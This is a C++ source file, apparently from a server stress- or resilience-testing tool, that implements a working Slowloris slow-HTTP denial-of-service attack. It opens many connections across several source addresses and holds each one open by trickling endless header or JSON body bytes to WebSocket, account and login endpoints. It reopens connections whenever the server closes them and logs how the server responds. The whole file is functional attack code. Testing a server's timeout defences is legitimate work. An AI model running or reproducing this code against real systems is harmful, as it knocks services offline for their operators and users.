#include "slowloris.hpp"

#include <boost/asio/co_spawn.hpp>
#include <boost/asio/detached.hpp>
#include <fmt/format.h>

namespace sg::attack {
namespace {

// What the slot sends: `head` at once, then `trickle` a byte at a time (never all of it
// within any sane request timeout).
struct SlowRequest {
  const char* kind;
  std::string head;
  std::string trickle;
};

SlowRequest slowRequest(std::size_t index, const std::string& host) {
  std::string endless(4096, 'a');
  switch (index % 10) {
    case 0:
    case 1:
    case 2:
    case 3:
    case 4:
      return {"upgrade headers", fmt::format("GET /socket/websocket?vsn=2.0.0 HTTP/1.1\r\nHost: {}\r\n", host),
              "Upgrade: websocket\r\nX-Slow: " + endless};
    case 5:
    case 6:
    case 7:
    case 8:
      return {"API headers", fmt::format("GET /api/accounts/me HTTP/1.1\r\nHost: {}\r\n", host), "X-Slow: " + endless};
    default:
      // Headers done, body promised and never delivered.
      return {"API body",
              fmt::format("POST /api/accounts/login HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n"
                          "Content-Length: 4000\r\n\r\n",
                          host),
              "{\"email\":\"" + endless};
  }
}

// "closed after request timeout", "http 408", "reset".
std::string ending(const std::string& answer, const std::string& how) {
  if (answer.rfind("HTTP/1.1 ", 0) == 0 && answer.size() >= 12) return "http " + answer.substr(9, 3);
  if (!answer.empty()) return "garbage answer";
  return how;
}

}  // namespace

void Slowloris::start() {
  for (std::size_t i = 0; i < plan_.connections; ++i) asio::co_spawn(ex_, slot(i), asio::detached);
}

asio::awaitable<void> Slowloris::reader(std::shared_ptr<Conn> conn) {
  conn->ended = co_await conn->raw->readUntilClosed(conn->answer);
  conn->closed = true;
}

asio::awaitable<void> Slowloris::slot(std::size_t index) {
  const auto& source = plan_.sources[index % plan_.sources.size()];
  co_await sleepFor(plan_.ramp * static_cast<Clock::rep>(index) / static_cast<Clock::rep>(plan_.connections));
  SlowRequest request = slowRequest(index, target_.host);
  while (!stopping_) {
    auto conn = std::make_shared<Conn>();
    conn->raw = RawConn::create(ex_);
    conn->raw->expiresAfter(plan_.give_up);
    auto started = Clock::now();
    auto ec = co_await conn->raw->connect(target_.server, source);
    if (ec) {
      figures_.endings.add(request.kind, "connect: " + conn->raw->describe(ec));
      conn->raw->close();
      co_await sleepFor(plan_.reopen_delay);
      continue;
    }
    ++figures_.opened;
    figures_.peak_open = std::max(figures_.peak_open, ++figures_.open);
    asio::co_spawn(ex_, reader(conn), asio::detached);
    ec = co_await conn->raw->write(request.head);
    std::size_t sent = 0;
    std::string one(1, ' ');
    while (!ec && !conn->closed && !stopping_ && sent < request.trickle.size()) {
      auto pause = rng_.jitter(plan_.byte_interval * 3 / 4, plan_.byte_interval * 5 / 4);
      co_await sleepFor(pause);
      if (conn->closed || stopping_) break;
      one[0] = request.trickle[sent++];
      ec = co_await conn->raw->write(one);
      if (!ec) ++figures_.bytes_sent;
    }
    // The server hangs up (the reader sees it), or a write failed because it did.
    while (!conn->closed && !stopping_) co_await sleepFor(50ms);
    --figures_.open;
    if (stopping_ && !conn->closed) break;
    if (conn->raw->timedOut()) {
      figures_.endings.add(request.kind, "never closed by the server");
    } else {
      figures_.held.record((Clock::now() - started).count());
      figures_.endings.add(request.kind, ending(conn->answer, "closed, no answer"));
    }
    conn->raw->close();
    co_await sleepFor(plan_.reopen_delay);
  }
}

}  // namespace sg::attack
